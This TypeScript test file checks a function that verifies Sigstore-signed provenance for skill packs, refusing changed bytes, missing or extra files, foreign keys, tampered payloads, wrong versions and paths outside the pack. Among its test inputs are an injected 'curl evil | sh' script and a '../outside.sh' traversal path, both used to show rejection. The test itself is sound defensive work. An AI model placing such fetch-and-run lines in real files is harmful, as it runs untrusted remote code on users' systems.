/**
 * Verify before writing (issue 52): `verifyPack` (local/verify-pack.ts, shown in full in the README)
 * accepts a pack only when Sigstore's verifier accepts its bundle with the service key its hint names
 * and the signed statement lists exactly the pack's files, each by its SHA-256, for the skill and
 * version the buyer got. Bundles are signed here with a key of the test's own (test/support/provenance.ts).
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { packFiles, packSeal } from '../../lambdas/contract/pack-seal';
import { verifyPack } from '../../local/verify-pack';
import { readmeSnippet } from '../support/readme-snippets';
import {
  CHECKS_PREDICATE,
  packSubjects,
  provenanceAnswer,
  SLSA_PROVENANCE,
  signedBundle,
  statement,
  testKey,
  type TestKey,
} from '../support/provenance-signing';

const SKILL = 'csv-cleaner';
/** Paths whose byte order differs from a naive sort's, and text of more than one byte a character. */
const FILES: Record<string, string> = {
  'SKILL.md': '---\nname: csv-cleaner\n---\n\n# CSV cleaner — “quotes” and ümlauts\n',
  'scripts/clean.py': 'print("clean")\n',
  'scripts/clean-all.py': 'print("all")\n',
  'references/Z.md': 'Z\n',
  'references/a.md': 'a\n',
};

let key: TestKey;
let other: TestKey;
let bundle: unknown;

beforeAll(async () => {
  key = await testKey();
  other = await testKey();
  bundle = (await provenanceAnswer(key, SKILL, 3, FILES)).attestations[0]!.bundle;
});

/** The file with one character changed at `at` (the first by default). */
const changed = (text: string, at = 0): string =>
  text.slice(0, at) + String.fromCharCode(text.charCodeAt(at) === 0x41 ? 0x42 : 0x41) + text.slice(at + 1);

describe('verifyPack', () => {
  it('accepts the files the statement signs, and returns the statement (both attestations of the answer)', async () => {
    const answer = await provenanceAnswer(key, SKILL, 3, FILES);
    expect(answer.attestations.map((a) => a.predicateType)).toEqual([SLSA_PROVENANCE, CHECKS_PREDICATE]);
    for (const a of answer.attestations) {
      const signed = verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: a.bundle, jwks: key.jwks });
      expect(signed.predicateType).toBe(a.predicateType);
      expect(signed.subject[0]).toEqual({ name: `${SKILL}@3`, digest: { sha256: packSeal(packFiles(FILES)) } });
      expect(signed.subject).toHaveLength(1 + Object.keys(FILES).length);
    }
    // The bundle is Sigstore's v0.3 with a public-key hint and no log entry.
    expect(bundle).toMatchObject({
      mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
      verificationMaterial: { publicKey: { hint: key.kid } },
      dsseEnvelope: { payloadType: 'application/vnd.in-toto+json' },
    });
  });

  it('refuses a changed byte in any file, naming that file', () => {
    for (const path of Object.keys(FILES)) {
      for (const at of [0, FILES[path]!.length - 1]) {
        const files = { ...FILES, [path]: changed(FILES[path]!, at) };
        expect(() => verifyPack({ skill: SKILL, version: 3, files, bundle, jwks: key.jwks }), `${path} at ${at}`).toThrow(
          new RegExp(
            `^${path.replace(/\./g, '\\.')} does not match the signed statement of csv-cleaner@3 \\(sha256 [0-9a-f]{64}, signed [0-9a-f]{64}\\)\\.$`,
          ),
        );
      }
    }
  });

  it('refuses a missing file and an extra one, naming it', () => {
    const { ['scripts/clean.py']: _gone, ...missing } = FILES;
    expect(() => verifyPack({ skill: SKILL, version: 3, files: missing, bundle, jwks: key.jwks })).toThrow(
      /^scripts\/clean\.py is in the signed statement of csv-cleaner@3 but not in the pack\.$/,
    );
    const extra = { ...FILES, 'scripts/run.sh': 'curl evil | sh\n' };
    expect(() => verifyPack({ skill: SKILL, version: 3, files: extra, bundle, jwks: key.jwks })).toThrow(
      /^scripts\/run\.sh is not in the signed statement of csv-cleaner@3\.$/,
    );
  });

  it('refuses a bundle signed by another key, or by a key the JWKS does not hold', async () => {
    // Another key under the service key's kid: the signature does not verify.
    const forged = await signedBundle(other, statement(packSubjects(SKILL, 3, FILES)), { hint: key.kid });
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: forged, jwks: key.jwks })).toThrow(
      /^The provenance of csv-cleaner@3 is not signed by the service key \(signature verification failed\)\.$/,
    );
    // Its own kid: not in the service's JWKS.
    const stranger = await signedBundle(other, statement(packSubjects(SKILL, 3, FILES)));
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: stranger, jwks: key.jwks })).toThrow(
      new RegExp(
        `^The provenance of csv-cleaner@3 is not signed by the service key \\(key ${other.kid} is not in the service's JWKS\\)\\.$`,
      ),
    );
    // The right key set of the other signer accepts it: the refusals above are the key's.
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: stranger, jwks: other.jwks })).not.toThrow();
  });

  it('refuses a payload changed after signing', () => {
    const copy = structuredClone(bundle) as { dsseEnvelope: { payload: string } };
    const text = Buffer.from(copy.dsseEnvelope.payload, 'base64').toString('utf8');
    // The tampered file's digest put into the statement: the files would match it, the signature does not.
    const tampered = { ...FILES, 'SKILL.md': changed(FILES['SKILL.md']!) };
    let forged = text;
    for (const [a, b] of packSubjects(SKILL, 3, FILES).map((s, i) => [s.digest.sha256, packSubjects(SKILL, 3, tampered)[i]!.digest.sha256]))
      forged = forged.replace(a!, b!);
    expect(forged).not.toBe(text);
    copy.dsseEnvelope.payload = Buffer.from(forged).toString('base64');
    expect(() => verifyPack({ skill: SKILL, version: 3, files: tampered, bundle: copy, jwks: key.jwks })).toThrow(
      /is not signed by the service key \(signature verification failed\)/,
    );
  });

  it('refuses a statement for another skill or another version', async () => {
    expect(() => verifyPack({ skill: SKILL, version: 2, files: FILES, bundle, jwks: key.jwks })).toThrow(
      /^The signed statement is for csv-cleaner@3, not csv-cleaner@2\.$/,
    );
    expect(() => verifyPack({ skill: 'json-cleaner', version: 3, files: FILES, bundle, jwks: key.jwks })).toThrow(
      /^The signed statement is for csv-cleaner@3, not json-cleaner@3\.$/,
    );
    // Another skill's statement whose files carry the same bytes: its file subjects name that skill.
    const otherSkill = await signedBundle(key, statement(packSubjects('json-cleaner', 3, FILES)));
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: otherSkill, jwks: key.jwks })).toThrow(
      /^The signed statement is for json-cleaner@3, not csv-cleaner@3\.$/,
    );
  });

  it("refuses a statement whose pack digest is not the files' seal, one not in-toto, and a path outside the pack", async () => {
    const subject = packSubjects(SKILL, 3, FILES);
    subject[0] = { ...subject[0]!, digest: { sha256: '0'.repeat(64) } };
    const badSeal = await signedBundle(key, statement(subject));
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: badSeal, jwks: key.jwks })).toThrow(
      new RegExp(`^The pack's seal ${packSeal(packFiles(FILES))} is not the signed 0{64} of csv-cleaner@3\\.$`),
    );
    const notInToto = await signedBundle(key, statement(packSubjects(SKILL, 3, FILES)), { payloadType: 'application/json' });
    expect(() => verifyPack({ skill: SKILL, version: 3, files: FILES, bundle: notInToto, jwks: key.jwks })).toThrow(
      /^The provenance is not an in-toto statement\.$/,
    );
    const escaping = { ...FILES, '../outside.sh': 'x\n' };
    const signedEscape = await signedBundle(key, statement(packSubjects(SKILL, 3, escaping)));
    expect(() => verifyPack({ skill: SKILL, version: 3, files: escaping, bundle: signedEscape, jwks: key.jwks })).toThrow(
      /^\.\.\/outside\.sh is not a relative path inside the pack\.$/,
    );
  });

  it('is shown in full in the README, as the snippet the README compiles', () => {
    const file = readFileSync(fileURLToPath(new URL('../../local/verify-pack.ts', import.meta.url)), 'utf8');
    expect(`${readmeSnippet('verify-pack')}\n`).toBe(file);
  });
});
